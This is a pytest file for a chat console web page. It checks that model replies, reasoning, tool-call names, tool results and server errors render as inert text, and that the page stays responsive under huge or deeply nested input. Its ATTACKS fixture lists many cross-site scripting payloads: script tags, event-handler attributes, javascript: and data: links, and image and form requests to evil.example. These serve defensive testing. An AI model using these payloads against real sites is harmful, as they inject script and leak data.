"""What a model or a tool says is text, whatever it looks like: nothing runs, nothing is loaded, nothing hangs."""

from __future__ import annotations

import json
from collections.abc import Iterator, Mapping
from typing import Any

import pytest

from tests.fakes.chromium import Chromium, Page, PageError
from tests.fakes.console_server import DONE, ConsoleServer, event, says

DONE_ONCE = "document.querySelector('.turn:last-child .tally')?.textContent.includes('token')"
ALLOWED = {
    "P", "H3", "H4", "H5", "H6", "PRE", "CODE", "SPAN", "FIGURE", "FIGCAPTION", "BUTTON", "BLOCKQUOTE", "UL", "OL",
    "LI", "TABLE", "THEAD", "TBODY", "TR", "TH", "TD", "HR", "BR", "A", "EM", "STRONG", "DEL", "INPUT", "DIV",
}  # fmt: skip

ATTACKS = """
<script>window.hacked = 1</script>
<img src=x onerror="window.hacked = 2">
<svg onload="window.hacked = 3"><animate onbegin="window.hacked = 4"></svg>
<iframe src="https://evil.example/"></iframe><style>* { display: none }</style>
<a href="javascript:window.hacked = 5">here</a>

[click](javascript:window.hacked=6) [click](JaVaScRiPt:window.hacked=7) [click](java&#115;cript:alert(1))
[click](\\tjavascript:alert) [click]( javascript:window.hacked=8 "t") [data](data:text/html,<script>hacked=9</script>)
[vb](vbscript:x) [file](file:///etc/passwd) [blob](blob:https://a/b) [rel](/v1/models) [proto](//evil.example/x)
<javascript:window.hacked=10> <data:text/html,x>

![p](https://evil.example/pixel.png?secret) ![d](data:image/svg+xml,<svg onload=alert(1)>) ![j](javascript:alert(1))
[![nested](https://evil.example/a.png)](https://evil.example/b)

```"><script>window.hacked = 11</script>
</code></pre><script>window.hacked = 12</script>
```

| <script>window.hacked = 13</script> | [x](javascript:hacked=14) |
|---|---|
| <img src=x onerror=window.hacked=15> | `</td><script>` |

- [ ] <form action="https://evil.example"><input name=x onfocus=hacked=16 autofocus></form>
<https://ok.example/path> and https://bare.example/x"onmouseover="window.hacked=17
"""


@pytest.fixture
def page(chromium: Chromium, server: ConsoleServer) -> Iterator[Page]:
    with chromium.page(server.address) as opened:
        opened.wait("document.querySelector('.welcome h1')?.textContent.includes('tiny')")
        yield opened
        assert opened.complaints == []
        assert all(url.startswith((server.address, "data:", "blob:")) for url in opened.asked), opened.asked


def ask(page: Page, text: str) -> None:
    page.type(text)
    page.press("Enter")
    page.wait(DONE_ONCE)


def assert_inert(page: Page) -> None:
    assert page.run("window.hacked") is None
    shown = page.run("[...new Set([...document.querySelectorAll('.prose *')].map((one) => one.nodeName))]")
    assert set(shown) <= ALLOWED
    assert page.run("document.querySelectorAll('main script, main iframe, main svg image, main style').length") == 0
    handlers = page.run(
        "[...document.querySelectorAll('main *')].flatMap((one) => one.getAttributeNames())"
        ".filter((name) => name.startsWith('on') || name === 'style' || name === 'srcdoc')"
        ".filter((name) => name !== 'style')"
    )
    assert handlers == []


def test_markdown_that_attacks_is_text(page: Page, server: ConsoleServer) -> None:
    server.chat = says(ATTACKS)
    ask(page, ATTACKS)
    assert_inert(page)
    links = page.run(
        "[...document.querySelectorAll('.prose a')].map((one) => [one.protocol, one.rel, one.target, one.hash])"
    )
    assert links
    assert {tuple(one[:3]) for one in links} == {("https:", "noopener noreferrer", "_blank")}
    assert page.run("document.querySelectorAll('main img').length") == 0, "no picture is loaded by an address"
    assert "<script>window.hacked = 1</script>" in page.text(".answer > .prose")
    assert "[click](javascript:window.hacked=6)" in page.text(".answer > .prose")


def test_thoughts_calls_results_and_names_are_text(page: Page, server: ConsoleServer) -> None:
    evil = '<img src=x onerror="window.hacked=1">'

    def chat(body: Mapping[str, Any]) -> Iterator[bytes | float]:
        if body["messages"][-1]["role"] == "tool":
            yield event({"content": "Done."}, tokens=9)
            yield DONE
            return
        called = {"name": evil, "arguments": json.dumps({"x": evil})}
        yield event({"reasoning_content": ATTACKS}, tokens=2)
        yield event({"tool_calls": [{"index": 0, "id": evil, "function": called}]}, tokens=3)
        yield event({}, tokens=3, finish="tool_calls")
        yield DONE

    server.chat = chat
    ask(page, "Attack")
    assert page.text(".call summary") == f"Called {evil}"
    page.click(".results textarea")
    page.type(f"<script>window.hacked = 2</script>{evil}")
    page.click(".results button")
    page.wait("document.querySelector('.turn:last-child .answer > .prose')?.innerText === 'Done.'")
    assert_inert(page)


def test_what_the_server_tells_of_engines_and_models_is_text(chromium: Chromium, server: ConsoleServer) -> None:
    evil = "<img src=x onerror=window.hacked=1>"
    server.models = [{"id": evil, "max_model_len": 8}]
    server.refusal = (500, {"message": evil, "code": evil})
    with chromium.page(server.address) as page:
        page.wait("document.querySelector('.welcome h1')?.textContent.includes('onerror')")
        page.type("x")
        page.press("Enter")
        page.wait("document.querySelector('.trouble')")
        assert page.text(".trouble .what") == evil
        assert_inert(page)


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("quotes", ">" * 50_000 + " deep"),
        ("lists", "\n".join(" " * (2 * depth) + "- x" for depth in range(2000))),
        ("emphasis", "*a **b " * 12_000),
        ("brackets", "[" * 90_000),
        ("half links", "[a](" * 20_000),
        ("backticks", " ".join("`" * (1 + number) for number in range(350))),
        ("a table", "|" * 40_000 + "\n" + "|-" * 20_000),
        ("one line", "word " * 60_000),
    ],
)
def test_deep_nesting_ends_and_takes_no_time(page: Page, server: ConsoleServer, name: str, text: str) -> None:
    server.chat = says(text)
    ask(page, name)
    assert page.run("(function depth(one) { return 1 + Math.max(0, ...[...one.children].map(depth)); })"
                    "(document.querySelector('.answer > .prose'))") < 90  # fmt: skip
    assert_inert(page)


def test_five_megabytes_are_taken_and_the_page_stays_awake(page: Page, server: ConsoleServer) -> None:
    line = "A line with **bold** and `code`, again and again, and a [link](https://example.org).\n\n"

    def chat(_: Mapping[str, Any]) -> Iterator[bytes | float]:
        for number in range(50):
            yield event({"content": line * (100_000 // len(line))}, tokens=number)
        yield event({}, tokens=50, finish="stop")
        yield DONE

    server.chat = chat
    ask(page, "A lot")
    assert page.run("document.querySelector('.answer > .prose').textContent.length") < 300_000
    assert "k characters more are not shown." in page.text(".answer > .prose > .note:last-child")
    assert page.run("new Promise((done) => setTimeout(() => done('awake'), 0))") == "awake"
    assert "too large for this browser" in page.text(".talk > .note")


@pytest.mark.parametrize("data", ["not json", "[1]", "null", '"text"', '{"choices":7}', '{"choices":[null]}'])
def test_a_stream_of_something_else_ends_in_words(page: Page, server: ConsoleServer, data: str) -> None:
    def chat(_: Mapping[str, Any]) -> Iterator[bytes | float]:
        yield b"data: " + data.encode() + b"\n\n"

    server.chat = chat
    page.type("x")
    page.press("Enter")
    page.wait("document.querySelector('.trouble')")
    assert "Try again" in page.text(".trouble")


def test_the_policy_forbids_what_the_page_never_does(page: Page, server: ConsoleServer) -> None:
    """The page is safe without its policy; were it not, the policy would hold."""
    with pytest.raises(PageError, match="TrustedHTML"):
        page.run("document.body.innerHTML = '<b>x</b>'")
    page.run("(() => { const one = document.createElement('script'); one.append('window.hacked = 1');"
             " try { document.body.append(one); } catch { } })()")  # fmt: skip
    page.run("document.body.append(Object.assign(document.createElement('img'), {src: 'https://evil.example/x.png'}))")
    with pytest.raises(PageError, match="Failed to fetch"):
        page.run("fetch('https://evil.example/')")
    assert page.run("window.hacked") is None
    assert any("Content Security Policy" in one for one in page.complaints)
    page.complaints.clear()
    page.asked.clear()
